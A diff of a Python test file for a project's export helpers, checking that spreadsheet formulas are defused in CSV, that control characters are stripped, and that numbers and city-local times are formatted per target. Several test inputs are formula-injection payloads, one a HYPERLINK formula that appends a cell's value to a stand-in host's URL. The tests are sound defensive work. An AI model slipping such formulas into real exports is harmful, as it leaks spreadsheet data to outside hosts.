@@ -1,7 +1,12 @@
 import csv
 import io
+from datetime import UTC, date, datetime
+from decimal import Decimal
 
-from dobry.core.documents import csv_response
+import pytest
+from openpyxl import load_workbook
+
+from dobry.core.documents import csv_response, export_cell, xlsx_workbook
 
 
 def test_csv_keeps_typed_formulas_as_text_and_opens_in_excel():
@@ -13,3 +18,49 @@ def test_csv_keeps_typed_formulas_as_text_and_opens_in_excel():
     rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
     assert rows == [["title", "amount"], ['\'=HYPERLINK("http://evil")', "5"], ["Скамейки", "-3"]]
     assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
+
+
+# --- one cell helper for XLSX, CSV and DOCX -------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
+def test_csv_text_starting_like_a_formula_gets_an_apostrophe(start):
+    assert export_cell(f"{start}1+1", target="csv") == f"'{start}1+1"
+
+
+def test_text_loses_the_characters_xml_forbids_in_every_target():
+    for target in ("xlsx", "csv", "docx"):
+        assert export_cell("Ив\x00а\x01н\x0b\x1f\ufffe\n\tов", target=target) == "Иван\n\tов"
+
+
+def test_numbers_stay_numbers_in_xlsx_and_take_a_decimal_comma_in_semicolon_csv():
+    assert export_cell(Decimal("1.50"), target="xlsx") == Decimal("1.50")
+    assert export_cell(1.5, target="csv") == "1.5"
+    assert export_cell(1.5, target="csv", decimal_comma=True) == "1,5"
+    assert export_cell(Decimal("1.50"), target="csv", decimal_comma=True) == "1,50"
+    assert export_cell(-3, target="csv") == "-3"  # a number, not a formula
+    assert export_cell(None, target="xlsx") == ""
+
+
+def test_times_are_written_on_the_citys_clock():
+    moment = datetime(2027, 2, 28, 23, 0, tzinfo=UTC)  # 06:00 on 1 March in Krasnoyarsk
+    assert export_cell(moment, target="xlsx") == datetime(2027, 3, 1, 6, 0)  # noqa: DTZ001
+    assert export_cell(moment, target="csv") == "01.03.2027 06:00"
+    assert export_cell(date(2027, 3, 1), target="docx") == "01.03.2027"
+    with pytest.raises(ValueError, match="aware"):
+        export_cell(datetime(2027, 3, 1, 6), target="csv")  # noqa: DTZ001
+
+
+def test_xlsx_writes_a_typed_formula_as_a_string_cell_and_numbers_as_numbers():
+    formula = '=HYPERLINK("http://x.example/?"&D2;"Имя")'
+    content = xlsx_workbook(
+        [("Лист: [1]?", ["Имя", "Часы", "Пришёл"], [[formula, Decimal("1.5"), date(2027, 3, 1)]])]
+    )
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert sheet.title == "Лист   1"
+    name, hours, day = sheet[2]
+    assert (name.data_type, name.value) == ("s", formula)
+    assert (hours.data_type, hours.value) == ("n", 1.5)
+    assert day.value == datetime(2027, 3, 1)  # noqa: DTZ001
+    assert day.number_format == "DD.MM.YYYY"
+    assert sheet["A1"].font.bold
